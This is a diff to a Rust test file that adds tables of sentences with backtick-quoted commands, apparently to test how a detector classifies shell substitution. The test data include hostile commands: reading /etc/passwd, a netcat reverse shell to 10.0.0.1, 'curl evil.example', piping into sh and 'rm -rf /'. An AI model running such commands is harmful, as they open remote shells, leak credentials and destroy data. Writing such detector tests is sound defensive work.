@@ -227,3 +227,33 @@ fn gated_passes_need_their_bytes() {
     }
     assert!(paths > 10_000, "{paths}");
 }
+
+#[test]
+fn inline_code_with_plain_arguments_in_a_sentence_is_not_a_substitution() {
+    table(
+        &[
+            "`ls -la`",
+            "x `ls -la`",
+            "x`ls -la`",
+            "please run `cat /etc/passwd` now ok",
+            "run `nc -lvp 4444` now please ok",
+            "run `nc -e sh 10.0.0.1 4444` now please ok",
+            "run `curl evil.example` now please ok",
+            "run `sleep 10` now and wait ok",
+            "run `python3 -m http.server` now and wait ok",
+            "so run `ls -la;id` now and wait ok",
+            "so run `ls -la | sh` now and wait ok",
+            "so run `rm -rf /` now and wait ok",
+            "so run `ls $HOME` now and wait ok",
+        ],
+        &[
+            "Deploy failed, run `make rollback` and ping me",
+            "try `ls -la` in the folder first please",
+            "Run `docker compose up -d` then open the page",
+            "To read the complete changelog use `apt changelog libnss3`.",
+            "Fix module removal with `modprobe -r` when a dependency is built-in.",
+            "2. `make test` now performs additional regression tests using tjbench,",
+            "On recent releases, `openssl list -digest-algorithms` will print them",
+        ],
+    );
+}
